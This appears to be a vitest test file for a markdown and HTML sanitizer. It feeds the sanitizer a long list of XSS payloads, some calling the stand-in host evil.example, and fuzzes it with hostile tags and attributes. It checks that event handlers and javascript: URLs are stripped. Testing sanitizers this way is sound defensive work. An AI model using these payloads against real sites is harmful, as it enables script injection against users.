import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { runs } from '../support/in-full.ts';
import { compileSafely, failures, TAGS } from '../support/safe-rich-text.ts';

describe('a hostile source', () => {
  const dirty = [
    '<script>alert(1)</script>',
    '<p>a<script>alert(1)</script></p>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<script/x src=data:,alert(1)></script>',
    '<img src=x onerror=alert(1)>',
    '<img src="/uploads/a.png" onerror="alert(1)" onload=alert(1)>',
    '<img """><script>alert(1)</script>">',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src=`javascript:alert(1)`>',
    '<img/src/onerror=alert(1)>',
    '<img src=https://evil.example/pixel.gif>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="https://user:pass@evil.example">x</a>',
    '<a href="/a" onclick=alert(1) style="x:expression(1)" target=_blank ping=//evil.example>x</a>',
    '<svg onload=alert(1)></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<style>@import "//evil.example/x.css";</style>',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    '<form action="javascript:alert(1)"><input type=submit><button formaction="javascript:alert(1)">x</button></form>',
    '<input type=text autofocus onfocus=alert(1)>',
    '<select autofocus onfocus=alert(1)><option>x</select>',
    '<textarea autofocus onfocus=alert(1)>x</textarea>',
    '<video><source onerror=alert(1)></video>',
    '<audio src=x onerror=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '<body onload=alert(1)>x',
    '<marquee onstart=alert(1)>x</marquee>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><img src=x onerror=alert(1)></template>',
    '<p id="root">a</p><p name="contacts" id="__proto__">b</p>',
    '<xss-element onclick=alert(1) is=x-y>x</xss-element>',
    '<isindex type=image src=1 onerror=alert(1)>',
    '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
    '<div style="background:url(javascript:alert(1))" onpointerenter=alert(1)>x</div>',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<?xml version="1.0"?><script>alert(1)</script>',
    '[x](javascript:alert(1))',
    '[x](JAVASCRIPT&colon;alert(1))',
    '[x](<java\nscript:alert(1)>)',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x]: javascript:alert(1)\n\n[x]',
    '![x](javascript:alert(1))',
    '![x](/uploads/a.png"onerror="alert(1))',
    '![x"onerror="alert(1)](/uploads/a.png)',
    '<javascript:alert(1)>',
    '[x](/a "t\\"onmouseover=\\"alert(1)")',
    '```"><script>alert(1)</script>\nx\n```',
    '```js onclick=alert(1)\nx\n```',
    'a\n\n<script>alert(1)</script>\n\nb',
    '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  ];

  it.each(dirty.map(source => [source]))(
    'a hostile source compiles to safe elements and attributes: %j',
    source => {
      const text = JSON.stringify(compileSafely(source));
      const attributes = text.match(/\{[^{}]*\}/g)?.join(' ') ?? '';
      expect(attributes).not.toMatch(/"on\w+":|"style":|"srcdoc":|(?:javascript|vbscript|data):/i);
      expect(failures.splice(0)).toEqual([]);
    },
  );
});

describe('any source', () => {
  const tag = fc.constantFrom(
    ...[
      ...TAGS,
      'div',
      'span',
      'b',
      'i',
      'h1',
      'section',
      'form',
      'button',
      'script',
      'style',
      'svg',
      'math',
      'object',
    ],
    ...[
      'select',
      'option',
      'template',
      'noscript',
      'textarea',
      'iframe',
      'nobr',
      'font',
      'colgroup',
      'col',
      'ruby',
    ],
  );
  const attribute = fc.constantFrom(
    ...[
      '',
      ' id=root',
      ' id=a',
      ' name=a',
      ' href=/a',
      ' href=#a',
      ' href=javascript:x',
      ' src=/uploads/a.png',
    ],
    ...[
      ' src=//evil.example/a',
      ' title="T"',
      ' onclick=x',
      ' style=x',
      ' class=language-x',
      ' type=checkbox',
      ' colspan=2',
    ],
  );
  const piece = fc.oneof(
    fc.tuple(tag, attribute, attribute).map(([name, one, two]) => `<${name}${one}${two}>`),
    tag.map(name => `</${name}>`),
    fc.constantFrom('a', ' ', '\n', '\n\n', '&nbsp;', '<!--', '-->', '<', '>', '&#13;', '\0'),
  );
  const markdownPiece = fc.constantFrom(
    ...[
      '*',
      '**',
      '_',
      '`',
      '```',
      '~~',
      '[',
      ']',
      '(',
      ')',
      '![',
      '](/a)',
      '](javascript:x)',
      '](/uploads/a.png "T")',
    ],
    ...[
      '# ',
      '> ',
      '- ',
      '1. ',
      '- [ ] ',
      '| a |\n|---|\n',
      '|',
      '\n',
      '\n\n',
      '    ',
      'a',
      ' ',
      '<b>',
      '</b>',
      '<div>',
    ],
    ...[
      '</div>',
      '<p>',
      '[^1]',
      '[^1]: ',
      'www.a.example',
      '---',
      '\\',
      '&lt;',
      '<li>',
      '<td>',
      '<a href=/b>',
      '</a>',
    ],
  );
  const source = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 200 }),
    fc.array(piece, { maxLength: 25 }).map(parts => parts.join('')),
    fc.array(markdownPiece, { maxLength: 25 }).map(parts => parts.join('')),
  );

  it('any source compiles to safe elements that a browser parses to the same tree', () => {
    fc.assert(
      fc.property(source, text => {
        compileSafely(text);
      }),
      { numRuns: runs(1_500) },
    );
    expect(failures.splice(0)).toEqual([]);
  }, 60_000);
});
